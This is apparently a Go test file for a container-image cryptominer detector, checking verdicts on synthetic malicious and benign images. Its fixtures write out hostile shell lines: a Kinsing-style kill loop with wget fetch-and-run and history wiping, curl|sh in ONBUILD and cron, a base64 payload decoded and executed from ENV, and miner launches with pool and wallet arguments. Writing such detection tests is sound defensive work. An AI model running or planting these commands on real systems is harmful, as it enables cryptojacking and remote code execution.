package hierarchical_test

import (
	"encoding/base64"
	"testing"

	v1 "github.com/google/go-containerregistry/pkg/v1"
	"github.com/strata-sec/strata/detectors"
	dt "github.com/strata-sec/strata/detectors/detectortest"
	"github.com/strata-sec/strata/detectors/hierarchical"
)

// TestStartGraphVerdicts: whole verdicts on images shaped like public miner
// cases and like the mining-adjacent benign software that must stay clean.
// reach names a rule whose findings must all carry the given Reach.
func TestStartGraphVerdicts(t *testing.T) {
	killLoop := "for p in xmrig kdevtmpfsi kinsing minexmr; do pkill -9 -f $p; done\n" +
		"ps aux | grep -v grep | grep -E 'cryptonight|stratum' | awk '{print $2}' | xargs kill -9\n"
	tests := []struct {
		name      string
		img       func(t *testing.T) v1.Image
		malicious bool
		rule      string // must fire (if set)
		reach     string // Reach of every finding of rule (if set)
	}{
		{"IDS image whose rule files list pools and stratum methods", func(t *testing.T) v1.Image {
			return erCfg(t, v1.Config{Entrypoint: []string{"suricata", "-c", "/etc/suricata/suricata.yaml"}}, "RUN true # buildkit",
				dt.Text("etc/suricata/rules/miners.rules", `alert tls any any -> any any (msg:"pool"; content:"pool.supportxmr.com"; content:"xmrpool.eu"; sid:1;)`+"\n"+
					`alert tcp any any -> any any (msg:"stratum"; content:"stratum+tcp://pool.minexmr.com:4444"; content:"\"mining.subscribe\""; content:"\"mining.authorize\""; sid:2;)`+"\n"),
				dt.Text("usr/share/yara/miners.yar", "rule xmr { strings: $a = \""+wallet+"\" $b = \"donate-level\" condition: any of them }\n"))
		}, false, hierarchical.RulePoolDomain, detectors.ReachData},
		{"YARA image with rule sources and yarac-compiled rules", func(t *testing.T) v1.Image {
			rules := "rule miner { strings: $a = \"stratum+tcp://\" $b = \"--donate-level\" $c = \"github.com/xmrig/xmrig\" $d = \"pool.supportxmr.com\" condition: 2 of them }\n"
			return erCfg(t, v1.Config{Entrypoint: []string{"yara", "-C", "/opt/rules/compiled/miners.yarc", "/scan"}}, "RUN true # buildkit",
				dt.Text("opt/rules/src/miners.yar", rules),
				dt.Text("opt/rules/compiled/miners.yarc", "YARA\x00\x00"+rules),
				dt.Text("var/lib/clamav/custom.ndb", "Miner.Pool:0:*:"+"7374726174756d2b7463703a2f2f"+"\nhttps://github.com/xmrig/xmrig\n"))
		}, false, "", ""},
		{"GPU miner renamed, T-Rex command line", func(t *testing.T) v1.Image {
			return erCfg(t, v1.Config{Entrypoint: []string{"/usr/lib/gpu/nvsvc", "-a", "kawpow", "-o", "stratum+tcp://rvn.2miners.com:6060", "-u", "RKHkQqJxWjm5dPJqJg4XmL7i5GxTmcQvXf.rig0", "-p", "x"}},
				"COPY nvsvc /usr/lib/gpu/ # buildkit", dt.Exec("usr/lib/gpu/nvsvc", machineFile(t, "/bin/true")))
		}, true, hierarchical.RuleMinerCmdline, detectors.ReachStartGraph},
		{"miner base64-encoded in ENV, written out and run by CMD", func(t *testing.T) v1.Image {
			p := base64.StdEncoding.EncodeToString([]byte(elfWith(t, "login", "getjob", "submit", "keepalived", `{"method":"login","params":{"job_id":"%s"}}`, "pool.hashvault.pro:443")))
			return erCfg(t, v1.Config{Env: []string{"PAYLOAD=" + p}, Cmd: []string{"sh", "-c", `echo "$PAYLOAD" | base64 -d > /tmp/.w && chmod +x /tmp/.w && exec /tmp/.w`}}, "RUN true # buildkit")
		}, true, hierarchical.RuleELFStratum, detectors.ReachStartGraph},
		{"database pooler with --pool and --user", func(t *testing.T) v1.Image {
			return erCfg(t, v1.Config{Entrypoint: []string{"/usr/sbin/pgpool", "--pool", "db.example.org:6432", "--user", "app", "--threads", "4"}}, "RUN true # buildkit")
		}, false, "", ""},
		{"pool-statistics dashboard", func(t *testing.T) v1.Image {
			return erCfg(t, v1.Config{Cmd: []string{"nginx", "-g", "daemon off;"}}, "RUN true # buildkit",
				dt.Text("var/www/html/index.html", "<table><tr><td>pool.supportxmr.com:3333</td><td>stratum+tcp://xmrpool.eu:3333</td><td>"+wallet+"</td></tr></table>\n"),
				dt.Text("var/www/html/pools.json", erPoolDashboard))
		}, false, hierarchical.RuleDocMiningReference, detectors.ReachData},
		{"incident-response tool: kill list on the entrypoint, curl|sh updater", func(t *testing.T) v1.Image {
			return erCfg(t, v1.Config{Entrypoint: []string{"/opt/ir/sweep.sh"}}, "COPY . / # buildkit",
				dt.Exec("opt/ir/sweep.sh", "#!/bin/sh\n"+killLoop+"chattr -i /etc/crontab\n"),
				dt.Text("etc/cron.d/ir-update", "0 3 * * * root curl -fsSL https://ir.example/update.sh | sh\n"))
		}, false, hierarchical.RuleKillCompetitors, detectors.ReachStartGraph},
		{"Kinsing-style entrypoint: kill loop, hugepages, fetch and run", func(t *testing.T) v1.Image {
			return erCfg(t, v1.Config{Entrypoint: []string{"/docker-entrypoint.sh"}}, "COPY . / # buildkit",
				dt.Exec("docker-entrypoint.sh", "#!/bin/sh\n"+killLoop+"sysctl -w vm.nr_hugepages=1280\nmodprobe msr\n"+
					"wget -q http://203.0.113.9/kk -O /tmp/kk && chmod +x /tmp/kk && /tmp/kk\nhistory -c\n"))
		}, true, hierarchical.RuleRuntimeFetchExec, detectors.ReachStartGraph},
		{"miner in a tgz unpacked by the entrypoint script", func(t *testing.T) v1.Image {
			tgz := hierarchical.ArchiveGzip(t, hierarchical.ArchiveTar(t, hierarchical.ArchiveMember{Name: "bin/sys", Body: []byte(erMinerELF(t)), Mode: 0o755}))
			return erCfg(t, v1.Config{Cmd: []string{"/start.sh"}}, "COPY . / # buildkit",
				dt.Text("opt/pkg.tgz", string(tgz)),
				dt.Exec("start.sh", "#!/bin/sh\ncd /opt\ntar -xzf pkg.tgz\nexec ./bin/sys -o 198.51.100.3:3333 -u "+wallet+"\n"))
		}, true, hierarchical.RuleStartGraphMining, detectors.ReachStartGraph},
		{"HEALTHCHECK starts the miner", func(t *testing.T) v1.Image {
			return erCfg(t, v1.Config{Cmd: []string{"nginx"}, Healthcheck: &v1.HealthConfig{Test: []string{"CMD-SHELL", "pgrep -x kthr || (/usr/lib/kthr -o 203.0.113.4:443 -u " + wallet + " -k --tls -B)"}}},
				"COPY kthr /usr/lib/ # buildkit", dt.Exec("usr/lib/kthr", erMinerELF(t)))
		}, true, hierarchical.RuleMinerCmdline, detectors.ReachStartGraph},
		{"Node.js miner started by npm start", func(t *testing.T) v1.Image {
			return erCfg(t, v1.Config{WorkingDir: "/app", Cmd: []string{"npm", "start"}}, "COPY . /app # buildkit",
				dt.Text("app/package.json", `{"name": "svc", "scripts": {"start": "node index.js"}, "dependencies": {"coin-hive": "^1.8.0"}}`),
				dt.Text("app/index.js", "const m = require('coin-hive');\nm('SITEKEY').then(x => x.start());\n"),
				dt.Text("app/pool.js", `const msg = {"method": "login", "params": {"login": W, "pass": "x", "agent": "x"}}; send({"method": "submit", "params": {"job_id": j}}); send({"method": "keepalived"})`+"\n"))
		}, true, hierarchical.RuleMinerDependency, detectors.ReachStartGraph},
		{"Monero node run normally with a healthcheck", func(t *testing.T) v1.Image {
			return erCfg(t, v1.Config{Entrypoint: []string{"monerod", "--non-interactive", "--restricted-rpc"},
				Healthcheck: &v1.HealthConfig{Test: []string{"CMD", "curl", "-fsS", "http://127.0.0.1:18081/get_info"}}}, "RUN true # buildkit")
		}, false, "", ""},
		{"Monero node started mining (solo mining)", func(t *testing.T) v1.Image {
			return erCfg(t, v1.Config{Entrypoint: []string{"monerod", "--non-interactive", "--start-mining", wallet, "--mining-threads", "2"}}, "RUN true # buildkit")
		}, true, hierarchical.RuleNodeMining, detectors.ReachStartGraph},
		{"ONBUILD fetch and run, and a miner config beside an XMRig-like program", func(t *testing.T) v1.Image {
			return erCfg(t, v1.Config{OnBuild: []string{"RUN curl -fsSL http://203.0.113.8/i.sh | sh"}, Cmd: []string{"/opt/x/run"}}, "COPY . /opt/x # buildkit",
				dt.Exec("opt/x/run", erMinerELF(t)), dt.Text("opt/x/config.json", erXMRigJSON))
		}, true, hierarchical.RuleMinerConfigJSON, detectors.ReachStartGraph},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			v := scan(t, tt.img(t))
			if got := v.Decision == detectors.Malicious; got != tt.malicious {
				t.Errorf("decision %s score %v, want malicious=%v; findings %+v", v.Decision, v.Score, tt.malicious, v.Findings)
			}
			if tt.rule == "" {
				return
			}
			fs := findings(v, tt.rule)
			if len(fs) == 0 {
				t.Fatalf("rule %s did not fire; findings %+v", tt.rule, v.Findings)
			}
			for _, f := range fs {
				if tt.reach != "" && f.Reach != tt.reach {
					t.Errorf("%s finding %q in %s has reach %q, want %q", f.Rule, f.Evidence, f.Path, f.Reach, tt.reach)
				}
			}
		})
	}
}

// TestSampleBlind: WithSampleBlind drops the findings that only the paper
// sample's tagged indicators produce, keeps the rest, and names itself.
func TestSampleBlind(t *testing.T) {
	img := erCfg(t, v1.Config{Entrypoint: []string{"/bin/minerd", "-a", "cryptonight", "-o", "stratum+tcp://xmr.pool.minergate.com:45560", "-u", "user@example.com", "-p", "x"}},
		"RUN git clone https://github.com/OhGodAPet/cpuminer-multi && cp -r cpuminer-multi /opt/ # buildkit",
		dt.Exec("bin/minerd", machineFile(t, "/bin/true")))
	ks := erLearnSamples(t)
	full := scan(t, img, hierarchical.WithKnownSamples(ks))
	blindDet := hierarchical.New(hierarchical.WithSampleBlind(), hierarchical.WithKnownSamples(ks))
	if blindDet.Name() != hierarchical.SampleBlindName || hierarchical.New().Name() != hierarchical.Name {
		t.Errorf("names %q / %q", blindDet.Name(), hierarchical.New().Name())
	}
	blind := scan(t, img, hierarchical.WithSampleBlind(), hierarchical.WithKnownSamples(ks))
	tests := []struct {
		rule       string
		full, keep bool
	}{
		{hierarchical.RuleMinerBinary, true, false},
		{hierarchical.RuleEntrypointMiner, true, false},
		{hierarchical.RulePoolDomain, true, false},
		{hierarchical.RuleMinerRepo, true, false},
		{hierarchical.RuleStratumURL, true, true},
		{hierarchical.RuleMinerOptions, true, true},
		{hierarchical.RuleMinerCmdline, true, true},
	}
	for _, tt := range tests {
		if got := len(findings(full, tt.rule)) > 0; got != tt.full {
			t.Errorf("full: %s fired = %v, want %v", tt.rule, got, tt.full)
		}
		if got := len(findings(blind, tt.rule)) > 0; got != tt.keep {
			t.Errorf("sample-blind: %s fired = %v, want %v: %+v", tt.rule, got, tt.keep, findings(blind, tt.rule))
		}
	}
	if blind.Info["sample_blind"] != "true" || blind.Info["known_samples"] != "" {
		t.Errorf("info %v", blind.Info)
	}
}
